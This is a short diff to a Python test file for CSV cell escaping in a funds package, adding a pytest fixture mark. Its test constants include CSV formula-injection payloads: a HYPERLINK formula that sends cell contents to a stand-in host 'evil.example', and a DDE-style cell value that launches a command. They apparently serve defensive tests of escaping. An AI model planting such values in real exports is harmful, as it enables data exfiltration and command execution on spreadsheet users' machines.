@@ -14,6 +14,8 @@ from geodual.funds.csv_cells import csv_text, mark_text, read_csv, unmark_text, 
 from geodual.metric import EuclideanMetric
 from tests.funds.fake_akshare import fetch, make_market, replace_fund
 
+pytestmark = pytest.mark.usefixtures("blank_figures")
+
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 RISKY = re.compile(r"[=+\-@\t\r\n＝＋－＠]")
 TEXTS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "'=1", "''@x", "＝1", "-", "+"]
